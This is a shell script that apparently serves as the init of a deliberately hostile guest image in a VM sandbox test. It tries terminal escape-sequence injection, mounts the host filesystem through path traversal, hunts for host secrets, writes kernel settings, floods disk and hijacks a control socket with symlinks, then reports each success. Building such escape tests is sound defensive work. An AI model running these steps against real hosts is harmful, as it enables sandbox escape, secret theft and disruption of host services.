#!/bin/sh
# The init of the hostile image (test_hostile_guest.py): tries to get out, and says what it could do.
# The kernel's command line gives SECRET and DAEMON, files of the host; TARGET, a socket there; PORT,
# at which all addresses of OWN, separated by commas, listen.
export PATH=/bin:/sbin
[ -e /proc/mounts ] || mount -t proc proc /proc
say() { echo "ATTACK $*"; }

# What the terminal would obey: title, clipboard, its answers, the printer, another character set.
# shellcheck disable=SC2016  # `$q` is a word of the terminal's
printf '\033]0;owned\007\033]52;c;b3duZWQ=\007\033[21t\033P$qm\033\\\033[5i\033%%@\302\2356n\005\n'

mount -t hostfs none /mnt -o /../../../../../../../.. && say escaped
for name in /mnt/*; do say root "${name#/mnt/}"; done
for name in "$SECRET" "$DAEMON" /etc/passwd /root /home /sys/kernel; do
    [ ! -e "/mnt$name" ] || say sees "$name"
done
find /mnt/proc/sys /mnt/proc/sysrq-trigger /mnt/proc/irq -type f >/tmp/settings 2>/dev/null
say settings "$(wc -l </tmp/settings)"
while read -r name; do
    { true >>"$name"; } 2>/dev/null && say opened "$name"
done </tmp/settings
for process in /mnt/proc/[0-9]*; do
    say process "$(readlink "$process/exe")"
done
for folder in / /dev /proc /usr /tmp /tmp/p2pcloop-*/guest; do
    { true >"/mnt$folder/new"; } 2>/dev/null && say wrote "$folder"
done

made=0
while [ $made -lt 200 ] && { true >/mnt/run/flood$made; } 2>/dev/null; do made=$((made + 1)); done
say files $made
rm /mnt/run/flood*
dd if=/dev/zero of=/mnt/run/flood bs=1M count=8 2>/dev/null
say bytes "$(wc -c </mnt/run/flood)"
rm /mnt/run/flood

for folder in /mnt/tmp/p2pcloop-*/guest; do
    ln -s "$TARGET" "$folder/reply" 2>/dev/null && say replaced the answer
done
rm /mnt/run/uml/guest/mconsole && ln -s "$TARGET" /mnt/run/uml/guest/mconsole && say replaced

ip address flush dev lo
ip link set lo up
ip route del local 127.0.0.0/8 table local
echo 1 >/proc/sys/net/ipv4/conf/all/route_localnet
own=$(echo "$OWN" | tr , ' ')
for address in 127.0.0.1 127.1.2.3 10.0.2.2 10.0.2.3 10.0.2.255 192.0.2.255 224.0.0.1 $own; do
    ip route add "$address" via 10.0.2.2 2>/dev/null
    # A connection that is made waits for data for ever.
    {
        timeout 20 nc -w 2 "$address" "$PORT" </dev/null 2>/dev/null
        [ $? = 1 ] || say reached "$address"
    } &
done
wait
say "done"
sleep 600
